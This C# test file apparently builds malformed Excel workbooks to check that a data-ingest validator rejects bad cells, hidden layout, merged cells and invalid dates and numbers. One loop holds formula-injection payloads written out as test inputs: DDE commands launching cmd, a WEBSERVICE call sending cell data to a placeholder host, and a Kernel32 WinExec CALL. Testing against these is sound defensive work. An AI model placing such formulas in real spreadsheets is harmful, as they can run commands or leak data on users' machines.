using Par.Warehouse.Catalogue;
using Par.Warehouse.Collection;

namespace Par.Ingest.Tests.Corpus;

/// <summary>Workbooks whose cells look other than they read, or hold what is no value.</summary>
internal static class WorkbookCells
{
    private const string Name = "toimitus.xlsx";

    public static IEnumerable<BadFile> All() => Formulas().Concat(Looks()).Concat(Values());

    private static IEnumerable<BadFile> Formulas()
    {
        foreach (var (what, formula) in ((string, string)[])
        [
            ("a formula", "<f>1000+1008</f>"), ("a shared formula", "<f t=\"shared\" ref=\"B3:B9\" si=\"0\">A1</f>"), ("an array formula", "<f t=\"array\" ref=\"B3\">SUM(A1:A2)</f>"),
            ("a formula with a bar in a text", "<f>IF(\"a|b\"=\"\",1,2008)</f>"), ("an empty formula", "<f/>"),
        ])
            yield return new($"cell: {what}", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_BYEAR", 3, "", formula + "<v>2008</v>"), "PAR-106", At("ENT_BYEAR"));
        yield return new("cell: a formula that was never computed", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_BYEAR", 3, "", "<f>YEAR(TODAY())-17</f>"), "PAR-107", At("ENT_BYEAR"));
        foreach (var formula in (string[])["cmd|'/C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(\"http://x/\"&amp;A1)", "CALL(\"Kernel32\",\"WinExec\")", "RTD(\"x\",,\"y\")"])
            yield return new($"cell: the formula {formula}", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_BYEAR", 3, "", $"<f>{formula}</f><v>2008</v>"), "PAR-101");
        foreach (var error in (string[])["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!", "#SPILL!"])
            yield return new($"cell: the error value {error}", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_SEX", 4, " t=\"e\"", $"<v>{error}</v>"), "PAR-107", At("ENT_SEX", 4));
        yield return new("cell: a formula that gives an error", Name, () => GoodFiles.WithCell(RecordLevel.Period, "ENT_START", 3, " t=\"e\"", "<f>VLOOKUP(A3,x,2)</f><v>#N/A</v>"), "PAR-107", new Location("periods", 3, "ENT_START"));
        foreach (var code in (string[])["_x0000_", "_x0001_", "_x001F_", "_x007F_"])
            yield return new($"cell: the character {code} in a text", Name,
                () => GoodFiles.WithCell(RecordLevel.Organisation, "ORG_UNITNAME", 2, " t=\"inlineStr\"", $"<is><t>Mallilan{code}paja</t></is>"), "PAR-107", new Location("organisation", 2, "ORG_UNITNAME"));
        foreach (var broken in (string[])["MÃ¤llin tyÃ¶paja", "M\ufffdllin paja", "Ã…bo"])
            yield return new($"cell: broken letters in {broken}", Name, () => GoodFiles.WithValue(RecordLevel.Organisation, "ORG_UNITNAME", 2, broken), "PAR-151", new Location("organisation", 2, "ORG_UNITNAME"));
    }

    private static IEnumerable<BadFile> Looks()
    {
        yield return new("look: a hidden row", Name, () => GoodFiles.WithSheet(RecordLevel.Client, "<row r=\"3\">", "<row r=\"3\" hidden=\"1\">"), "PAR-108", new Location("clients", 3));
        yield return new("look: a hidden column", Name, () => GoodFiles.WithSheet(RecordLevel.Client, "<sheetData>", "<cols><col min=\"2\" max=\"2\" width=\"9\" hidden=\"1\"/></cols><sheetData>"), "PAR-108", At("ENT_BYEAR", 2));
        yield return new("look: all columns hidden", Name, () => GoodFiles.WithSheet(RecordLevel.Worker, "<sheetData>", "<cols><col min=\"1\" max=\"16384\" hidden=\"true\"/></cols><sheetData>"), "PAR-108", new Location("workers", 2, "W_ID"));
        yield return new("look: merged cells in the data", Name, () => GoodFiles.WithSheet(RecordLevel.Client, "</sheetData>", "</sheetData><mergeCells count=\"1\"><mergeCell ref=\"B3:B4\"/></mergeCells>"), "PAR-109", At("ENT_BYEAR"));
        yield return new("look: merged headers", Name, () => GoodFiles.WithSheet(RecordLevel.Client, "</sheetData>", "</sheetData><mergeCells><mergeCell ref=\"B1:C1\"/></mergeCells>"), "PAR-109", At("ENT_BYEAR", 1));
        foreach (var (what, style) in ((string, int)[])[("9", 5), ("10", 6), ("of its own", 7)])
            yield return new($"look: a percentage by format {what}", Name, () => Percent(style), "PAR-109", new Location("workers", 2, "W_HTV"));
        yield return new("look: a title above the headers", Name, () => Below(RecordLevel.Client, 1, "Mallilan nuorisopalvelut 2025"), "PAR-109", new Location("clients", 2));
        yield return new("look: a title and empty rows above the headers", Name, () => Below(RecordLevel.Period, 5, "Jaksot"), "PAR-109", new Location("periods", 6));
        yield return new("look: a title above the organisation", Name, () => Below(RecordLevel.Organisation, 2, "Organisaatio"), "PAR-109", new Location("organisation", 3));
        yield return new("look: a date as a bare number", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_NOTDATE", 3, "", "<v>45664</v>"), "PAR-109", At("ENT_NOTDATE"));
        yield return new("look: a date as a bare number of the system of 1904", Name, () => Zips.Edit(
            GoodFiles.WithCell(RecordLevel.Client, "ENT_NOTDATE", 3, "", "<v>44202</v>"), "xl/workbook.xml", xml => xml.Replace("<bookViews>", "<workbookPr date1904=\"1\"/><bookViews>", StringComparison.Ordinal)), "PAR-109", At("ENT_NOTDATE"));
        yield return new("look: a date as a number in a text", Name, () => GoodFiles.WithValue(RecordLevel.Client, "ENT_NOTDATE", 3, "45664"), "PAR-109", At("ENT_NOTDATE"));
        yield return new("look: a date with a time as a bare number", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_NOTDATE", 3, "", "<v>45664.61</v>"), "PAR-113", At("ENT_NOTDATE"));
    }

    private static IEnumerable<BadFile> Values()
    {
        foreach (var value in (string[])["31.2.2025", "2025-13-01", "1/7/25", "7. tammikuuta 2025", "2025", "00.01.2025", "tammikuu", "-45664", "1.1.25", "45664x", "999999999"])
            yield return new($"value: the date {value}", Name, () => GoodFiles.WithValue(RecordLevel.Client, "ENT_NOTDATE", 3, value), "PAR-113", At("ENT_NOTDATE"));
        foreach (var value in (string[])["-1", "9999999", "1e300"])
            yield return new($"value: a date cell that holds {value}", Name, () => GoodFiles.WithCell(RecordLevel.Client, "ENT_NOTDATE", 3, " s=\"1\"", $"<v>{value}</v>"), "PAR-113", At("ENT_NOTDATE"));
        foreach (var value in (string[])["0,5,5", "1.234,5", "50 %", "puoli", "1/2", "∞", "0.5.", "--1"])
            yield return new($"value: the number {value}", Name, () => GoodFiles.WithValue(RecordLevel.Worker, "W_HTV", 2, value), "PAR-113", new Location("workers", 2, "W_HTV"));
        foreach (var value in (string[])["NaN", "INF", "1e999", "0x10", "12a"])
            yield return new($"value: a number cell that holds {value}", Name, () => GoodFiles.WithCell(RecordLevel.Worker, "W_HTV", 2, "", $"<v>{value}</v>"), "PAR-113", new Location("workers", 2, "W_HTV"));
        foreach (var value in (string[])["kaksi", "2008.5", "20 08 x", "99999999999"])
            yield return new($"value: the year of birth {value}", Name, () => GoodFiles.WithValue(RecordLevel.Client, "ENT_BYEAR", 3, value), "PAR-113", At("ENT_BYEAR"));
        foreach (var value in (string[])["nainen", "1,2", "=1", "999"])
            yield return new($"value: the code {value}", Name, () => GoodFiles.WithValue(RecordLevel.Client, "ENT_SEX", 3, value), "PAR-012", At("ENT_SEX"));
    }

    private static Location At(string column, int row = 3) => new("clients", row, column);

    /// <summary>A person-year of 75 %, in a workbook with three formats that show percentages.</summary>
    private static byte[] Percent(int style) => Zips.Edit(
        GoodFiles.WithCell(RecordLevel.Worker, "W_HTV", 2, $" s=\"{style}\"", "<v>0.75</v>"), "xl/styles.xml",
        xml => xml.Replace("<fonts", "<numFmts count=\"1\"><numFmt numFmtId=\"170\" formatCode=\"0.0\\ %;[Red]-0.0\\ %\"/></numFmts><fonts", StringComparison.Ordinal)
            .Replace("</cellXfs>", "<xf numFmtId=\"9\"/><xf numFmtId=\"10\"/><xf numFmtId=\"170\"/></cellXfs>", StringComparison.Ordinal));

    /// <summary>A sheet moved down, with a title on its first row.</summary>
    private static byte[] Below(RecordLevel level, int rows, string title) => GoodFiles.WithSheet(level, xml =>
    {
        var moved = System.Text.RegularExpressions.Regex.Replace(xml, "(<row r=\"|<c r=\"[A-Z]+)([0-9]+)", match =>
            match.Groups[1].Value + (int.Parse(match.Groups[2].Value, System.Globalization.CultureInfo.InvariantCulture) + rows));
        return moved.Replace("<sheetData>", $"<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{title}</t></is></c></row>", StringComparison.Ordinal);
    });
}
